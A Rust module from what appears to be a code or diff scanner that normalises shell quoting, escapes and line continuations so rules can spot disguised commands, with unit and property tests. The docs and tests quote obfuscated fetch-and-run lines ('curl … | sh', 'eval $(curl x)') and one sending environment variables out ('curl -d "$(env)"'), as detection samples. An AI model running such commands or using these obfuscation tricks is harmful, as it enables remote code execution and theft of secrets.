//! The shell view: a command line as the shell reads it, for rules that set
//! `shell = true`.
//!
//! A shell joins `\`-continued lines and removes quotes and escapes inside a
//! word before it runs anything, so `c""url … \` / `| s'h'` and `\c\u\r\l`
//! are `curl … | sh` to it. The view does the same, leniently and with
//! bounded cost: at most [`MAX_LINES`] physical lines and [`MAX_VIEW`] bytes
//! of output per logical line, each input byte read once.
//!
//! The view only ever deletes bytes (quotes, escaping backslashes, the
//! backslash-newline of a continuation): every byte of it comes from the
//! input, in order. A rule matching the view therefore matches text whose
//! bytes are all in the added lines, in that order.
//!
//! [`worth`] is the prefilter: a line takes the view only when it ends with a
//! continuation, holds a quoted run glued to a word (`s'h'`, `c""url`,
//! `"cu""rl"`) or a backslash escaping a letter in an unquoted word
//! (`\c\u\r\l`, `cu\rl`). Ordinary code (`"text"`, `b"bytes"`, `f'{x}'`,
//! `"a\nb"`, `it's`) does not, so clean code stays on the fast path.

/// Extensions of source files whose commands live in string literals of the
/// language (`os.system("…")`, `Command::new("sh")`): there the host
/// language's quoting, not the shell's, decides what a quote means, so the
/// view would read nothing the raw text does not show. Skipping them keeps
/// the prefilter off most of a typical code base.
const NOT_SHELL: [&str; 26] = [
    "rs", "c", "h", "cc", "cpp", "cxx", "hpp", "hh", "go", "java", "kt", "kts", "scala", "swift",
    "cs", "py", "pyi", "js", "mjs", "cjs", "ts", "tsx", "jsx", "rb", "php", "json",
];

/// Whether lines of the file at `path` take the shell view: every file but
/// the program sources in [`NOT_SHELL`] (scripts, Makefiles, Dockerfiles,
/// workflows, documentation, text).
pub(crate) fn applies_to(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    match name.rsplit_once('.') {
        Some((stem, ext)) if !stem.is_empty() => {
            !NOT_SHELL.iter().any(|n| n.eq_ignore_ascii_case(ext))
        }
        _ => true,
    }
}

/// Most bytes of view built for one logical line.
pub(crate) const MAX_VIEW: usize = 4096;
/// Most physical lines joined into one logical line.
pub(crate) const MAX_LINES: usize = 16;
/// Longest quoted run that [`worth`] reads to find its closing quote.
const MAX_QUOTED: usize = 64;

/// Whether `line` ends with a line continuation (`\` before the newline).
pub(crate) fn continues(line: &[u8]) -> bool {
    let body = line.strip_suffix(b"\r").unwrap_or(line);
    let Some(stripped) = body.strip_suffix(b"\\") else {
        return false;
    };
    // An even number of backslashes is an escaped backslash, not a continuation.
    let run = stripped.iter().rev().take_while(|&&b| b == b'\\').count();
    run % 2 == 0
}

/// Prefixes of string literals in programming languages (`b"…"`, `f'…'`,
/// `u8"…"`): a quote after one of these is not glued to a shell word.
fn is_string_prefix(word: &[u8]) -> bool {
    word.len() <= 2
        && word.iter().all(|b| {
            matches!(
                b.to_ascii_lowercase(),
                b'b' | b'r' | b'f' | b'u' | b'l' | b'8'
            )
        })
}

/// Whether `line` alone is worth the shell view (see the module docs).
pub(crate) fn worth(line: &[u8]) -> bool {
    let mut st = Prefilter::default();
    continues(line) || memchr::memchr3_iter(b'\'', b'"', b'\\', line).any(|at| st.hit(line, at))
}

/// Whether each line is worth the shell view: `lines[k]` is the range of
/// line `k` in `region`, in order and not overlapping, and `out[k]` receives
/// the answer. One `memchr3` pass over the whole region instead of one per
/// line, since most lines are short and the per-call cost would dominate; a
/// continuation is the backslash hit at the end of its line.
pub(crate) fn worth_lines(region: &[u8], lines: &[(usize, usize)], out: &mut [bool]) {
    out.fill(false);
    let mut k = 0;
    let mut st = Prefilter::default();
    for p in memchr::memchr3_iter(b'\'', b'"', b'\\', region) {
        while k < lines.len() && p >= lines[k].1 {
            k += 1;
            st = Prefilter::default();
        }
        let Some(&(s, e)) = lines.get(k) else { break };
        if p < s || out[k] {
            continue;
        }
        let line = &region[s..e];
        let at = p - s;
        if region[p] == b'\\' && line[at + 1..].iter().all(|&b| b == b'\r') {
            out[k] = continues(line);
            if out[k] {
                continue;
            }
        }
        if st.hit(line, at) {
            out[k] = true;
        }
    }
}

/// The quoting state of one line as the prefilter reads it: one step per
/// quote or backslash, with constant work per step except on the rare steps
/// that look glued, so ordinary string literals, escapes inside them and
/// apostrophes cost no more than finding them.
#[derive(Default)]
struct Prefilter {
    quote: Quote,
    /// Where the open quoted run starts, and whether a word is glued before it.
    open: usize,
    glued_open: bool,
    /// Hits before this offset are escaped.
    skip: usize,
}

impl Prefilter {
    /// Reads the quote or backslash at `at`; true when the line is worth the view.
    #[inline]
    fn hit(&mut self, line: &[u8], at: usize) -> bool {
        if at < self.skip {
            return false;
        }
        let alnum = |i: usize| line.get(i).is_some_and(u8::is_ascii_alphanumeric);
        match (self.quote, line[at]) {
            (Quote::None, b'\\') => {
                // An escaped letter in an unquoted word: `\c\u\r\l`, `cu\rl`.
                let word_char = at == 0
                    || alnum(at - 1)
                    || matches!(line[at - 1], b' ' | b'\t' | b'\\' | b'|' | b';' | b'(');
                if line.get(at + 1).is_some_and(u8::is_ascii_alphabetic) && word_char {
                    return true;
                }
                self.skip = at + 2;
            }
            (Quote::Double, b'\\') => {
                // Inside double quotes a backslash escapes nothing a word is
                // made of, except in a command substitution (`"$(c\url …)"`).
                if line.get(at + 1).is_some_and(u8::is_ascii_alphabetic)
                    && memchr::memmem::find(&line[self.open..at], b"$(").is_some()
                {
                    return true;
                }
                self.skip = at + 2;
            }
            (Quote::None, q) => {
                self.quote = if q == b'"' {
                    Quote::Double
                } else {
                    Quote::Single
                };
                self.open = at;
                self.glued_open =
                    at > 0 && alnum(at - 1) && !is_string_prefix(word_before(line, at));
            }
            (Quote::Double, b'"') | (Quote::Single, b'\'') => {
                self.quote = Quote::None;
                let glued_close =
                    alnum(at + 1) || line.get(at + 1).is_some_and(|&c| c == b'"' || c == b'\'');
                // The quoted run must be part of a word: short and without blanks.
                if (self.glued_open || glued_close)
                    && at - self.open <= MAX_QUOTED
                    && memchr::memchr2(b' ', b'\t', &line[self.open..at]).is_none()
                {
                    return true;
                }
            }
            _ => {}
        }
        false
    }
}

/// The letters and digits right before `at`, at most three of them (enough
/// to tell a string-literal prefix).
fn word_before(line: &[u8], at: usize) -> &[u8] {
    let lo = at.saturating_sub(3);
    let start = line[lo..at]
        .iter()
        .rposition(|b| !b.is_ascii_alphanumeric())
        .map_or(lo, |p| lo + p + 1);
    &line[start..at]
}

/// A logical line as the shell reads it, with where each byte came from.
#[derive(Debug, Default)]
pub(crate) struct View {
    /// The text, quotes and escapes removed and continuations joined.
    pub(crate) text: Vec<u8>,
    /// For each byte of `text`: the index of its physical line in the input
    /// slice and its offset in that line.
    pub(crate) from: Vec<(u32, u32)>,
    /// How many physical lines the view covers.
    pub(crate) lines: usize,
}

#[derive(Clone, Copy, PartialEq, Eq, Default)]
enum Quote {
    #[default]
    None,
    Single,
    Double,
}

/// The shell view of the logical line that starts at `lines[0]`: it takes
/// following lines while a line ends with a continuation (at most
/// [`MAX_LINES`]), and stops at [`MAX_VIEW`] bytes of output.
pub(crate) fn view(lines: &[&[u8]]) -> View {
    let mut v = View::default();
    let mut quote = Quote::None;
    // Quoting outside each open `$(` inside double quotes: a command
    // substitution starts a new quoting context (`"$(c'u'rl …)"`).
    let mut outer: Vec<Quote> = Vec::new();
    for (k, raw) in lines.iter().take(MAX_LINES).enumerate() {
        v.lines = k + 1;
        let joined = continues(raw) && k + 1 < lines.len().min(MAX_LINES);
        let body = raw.strip_suffix(b"\r").unwrap_or(raw);
        let body = if joined {
            &body[..body.len() - 1]
        } else {
            body
        };
        let mut i = 0;
        while i < body.len() {
            if v.text.len() >= MAX_VIEW {
                return v;
            }
            let b = body[i];
            let kept = match (quote, b) {
                (Quote::Double, b'$') if body.get(i + 1) == Some(&b'(') && outer.len() < 8 => {
                    outer.push(quote);
                    quote = Quote::None;
                    Some(i)
                }
                (Quote::None, b')') if !outer.is_empty() => {
                    quote = outer.pop().unwrap_or(Quote::None);
                    Some(i)
                }
                (Quote::None, b'\'') => {
                    quote = Quote::Single;
                    None
                }
                (Quote::None, b'"') => {
                    quote = Quote::Double;
                    None
                }
                (Quote::Single, b'\'') | (Quote::Double, b'"') => {
                    quote = Quote::None;
                    None
                }
                (Quote::None, b'\\') if i + 1 < body.len() => {
                    i += 1;
                    Some(i)
                }
                (Quote::Double, b'\\')
                    if body
                        .get(i + 1)
                        .is_some_and(|c| matches!(c, b'$' | b'`' | b'"' | b'\\')) =>
                {
                    i += 1;
                    Some(i)
                }
                _ => Some(i),
            };
            if let Some(at) = kept {
                v.text.push(body[at]);
                v.from.push((k as u32, at as u32));
            }
            i += 1;
        }
        if !joined {
            break;
        }
        // An unterminated quote does not carry over a physical line end
        // unless the line continues; quoting stays lenient.
    }
    v
}

#[cfg(test)]
mod tests {
    use super::{MAX_VIEW, continues, view, worth};

    fn text(lines: &[&str]) -> String {
        let raw: Vec<&[u8]> = lines.iter().map(|l| l.as_bytes()).collect();
        String::from_utf8(view(&raw).text).unwrap()
    }

    #[test]
    fn removes_quotes_and_escapes_in_words() {
        assert_eq!(text(&["c\"\"url -s x | s'h'"]), "curl -s x | sh");
        assert_eq!(text(&["\\c\\u\\r\\l x|ba\\sh"]), "curl x|bash");
        assert_eq!(text(&["\"cu\"\"rl\" x"]), "curl x");
        assert_eq!(text(&["curl -d \"$(env)\" u"]), "curl -d $(env) u");
        assert_eq!(text(&["eval \"$(c'u'rl x)\" 'y'"]), "eval $(curl x) y");
    }

    #[test]
    fn joins_continuations() {
        assert_eq!(
            text(&["curl -fsSL https://x.example/i \\", "  | sh", "echo done"]),
            "curl -fsSL https://x.example/i   | sh"
        );
        assert_eq!(text(&["a \\\\", "b"]), "a \\");
        assert!(continues(b"x \\\r"));
        assert!(!continues(b"x \\\\"));
    }

    #[test]
    fn prefilter_skips_ordinary_code() {
        for l in [
            "let s = \"text\";",
            "x = b\"bytes\" + f'{y}'",
            "printf(\"a\\nb\");",
            "it's fine, don't worry",
            "map[\"k\"] = 'v';",
            "fn f<'a>(x: &'a str) {}",
            "echo \"$HOME\"/bin",
        ] {
            assert!(!worth(l.as_bytes()), "{l}");
        }
        for l in [
            "c\"\"url x",
            "s'h'",
            "\\curl x",
            "cu\\rl",
            "\"cu\"\"rl\"",
            "a \\",
            "bash -c \"$(c\\url x)\"",
        ] {
            assert!(worth(l.as_bytes()), "{l}");
        }
    }

    #[test]
    fn region_prefilter_agrees_with_the_line_prefilter() {
        let lines = [
            "let s = \"text\";",
            "c\"\"url x | s'h'",
            "it's fine",
            "x \\",
            "printf(\"a\\nb\");",
            "\\curl",
        ];
        let mut region = Vec::new();
        let mut ranges = Vec::new();
        for l in lines {
            region.push(b'+');
            ranges.push((region.len(), region.len() + l.len()));
            region.extend_from_slice(l.as_bytes());
            region.push(b'\n');
        }
        let mut got = vec![false; ranges.len()];
        super::worth_lines(&region, &ranges, &mut got);
        let want: Vec<bool> = lines.iter().map(|l| worth(l.as_bytes())).collect();
        assert_eq!(got, want);
        assert_eq!(want, [false, true, false, true, false, true]);
    }

    #[test]
    fn program_sources_skip_the_view() {
        for p in ["src/main.rs", "a/b.PY", "pkg/index.js", "package.json"] {
            assert!(!super::applies_to(p), "{p}");
        }
        for p in [
            "install.sh",
            "Makefile",
            "Dockerfile",
            ".github/workflows/a.yml",
            "README.md",
            ".rs",
            "x.txt",
        ] {
            assert!(super::applies_to(p), "{p}");
        }
    }

    #[test]
    fn bounded() {
        let long = "\"\"".repeat(10_000) + &"a".repeat(10_000);
        let lines: Vec<&[u8]> = vec![long.as_bytes(); 100];
        let v = view(&lines);
        assert!(v.text.len() <= MAX_VIEW);
        let cont = "x \\".to_string();
        let lines: Vec<&[u8]> = vec![cont.as_bytes(); 100];
        assert_eq!(view(&lines).lines, super::MAX_LINES);
    }

    mod props {
        use super::super::{MAX_LINES, MAX_VIEW, view, worth, worth_lines};
        use proptest::prelude::*;

        /// Shell-ish text: words, quotes, backslashes, pipes, continuations.
        fn shellish() -> impl Strategy<Value = Vec<u8>> {
            prop::collection::vec(
                prop_oneof![
                    Just(b'"'),
                    Just(b'\''),
                    Just(b'\\'),
                    Just(b' '),
                    Just(b'|'),
                    Just(b'$'),
                    Just(b'('),
                    Just(b')'),
                    b'a'..=b'z',
                    any::<u8>(),
                ],
                0..200,
            )
        }

        /// Whether `sub` is a subsequence of `hay`.
        fn subsequence(sub: &[u8], hay: &[u8]) -> bool {
            let mut it = hay.iter();
            sub.iter().all(|b| it.any(|h| h == b))
        }

        proptest! {
            #![proptest_config(ProptestConfig::with_cases(96))]

            /// The view only deletes: it is a subsequence of the lines, each
            /// byte mapped back to where it came from, so it can only reveal
            /// a payload whose bytes are all in the text, in order.
            #[test]
            fn view_only_deletes(lines in prop::collection::vec(shellish(), 1..6)) {
                let raw: Vec<&[u8]> = lines.iter().map(Vec::as_slice).collect();
                let v = view(&raw);
                let joined: Vec<u8> = lines.concat();
                prop_assert!(subsequence(&v.text, &joined));
                prop_assert_eq!(v.text.len(), v.from.len());
                for (i, &(k, c)) in v.from.iter().enumerate() {
                    prop_assert_eq!(raw[k as usize][c as usize], v.text[i]);
                }
                prop_assert!(v.text.len() <= MAX_VIEW);
                prop_assert!(v.lines >= 1 && v.lines <= MAX_LINES.min(raw.len()));
            }

            /// Without quotes, backslashes or continuations the view is the
            /// line itself: no new match can appear.
            #[test]
            fn plain_text_is_unchanged(line in "[a-z0-9 |$();&<>@.-]{0,120}") {
                let v = view(&[line.as_bytes()]);
                prop_assert_eq!(v.text.as_slice(), line.as_bytes());
                prop_assert!(!worth(line.as_bytes()));
            }

            /// The one-pass region prefilter agrees with the line prefilter.
            #[test]
            fn region_prefilter_agrees(lines in prop::collection::vec(shellish(), 1..8)) {
                let mut region = Vec::new();
                let mut ranges = Vec::new();
                for l in &lines {
                    let l: Vec<u8> = l.iter().copied().filter(|&b| b != b'\n').collect();
                    region.push(b'+');
                    ranges.push((region.len(), region.len() + l.len()));
                    region.extend_from_slice(&l);
                    region.push(b'\n');
                }
                let mut got = vec![false; ranges.len()];
                worth_lines(&region, &ranges, &mut got);
                let want: Vec<bool> = ranges.iter().map(|&(s, e)| worth(&region[s..e])).collect();
                prop_assert_eq!(got, want);
            }
        }

        /// Adversarial input stays within the bounds: a megabyte of quotes,
        /// escapes and continuations is read once.
        #[test]
        fn adversarial_cost_is_bounded() {
            let unit: &[u8] = b"c\"\"u\\r'l' \"$(\\x\" \\";
            let line: Vec<u8> = unit.iter().copied().cycle().take(1 << 16).collect();
            let lines: Vec<&[u8]> = vec![line.as_slice(); 32];
            let t = view(&lines);
            assert!(t.text.len() <= MAX_VIEW);
            let mut region = Vec::new();
            let mut ranges = Vec::new();
            for l in &lines {
                ranges.push((region.len(), region.len() + l.len()));
                region.extend_from_slice(l);
                region.push(b'\n');
            }
            let mut out = vec![false; ranges.len()];
            worth_lines(&region, &ranges, &mut out);
            assert!(out.iter().all(|&w| w));
        }
    }
}
